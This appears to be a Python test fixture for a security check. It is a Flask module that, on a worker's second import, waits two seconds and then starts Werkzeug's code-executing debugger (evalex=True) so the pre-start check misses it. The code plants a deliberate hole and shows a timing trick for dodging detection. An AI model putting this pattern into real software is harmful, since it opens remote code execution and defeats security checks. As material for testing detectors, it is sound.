"""Review of issue 13: the debugger served by a thread that waits two seconds first, so it is not listening yet
when the import ends and the worker's own check looks. With ATTACK_MARKER only the second import (a serve
worker, not its pre-start check) does it."""
import os
import threading
import time

from flask import Flask
from werkzeug.debug import DebuggedApplication
from werkzeug.serving import make_server

from _wait import armed

app = Flask(__name__)
app.config.update(SECRET_KEY=os.environ["SECRET_KEY"], MAX_CONTENT_LENGTH=1024 * 1024,
                  TRUSTED_HOSTS=["127.0.0.1", "localhost"])


def _serve() -> None:
    time.sleep(2)
    make_server("127.0.0.1", int(os.environ["ATTACK_PORT"]), DebuggedApplication(app, evalex=True)).serve_forever()


if armed():
    threading.Thread(target=_serve, daemon=True).start()
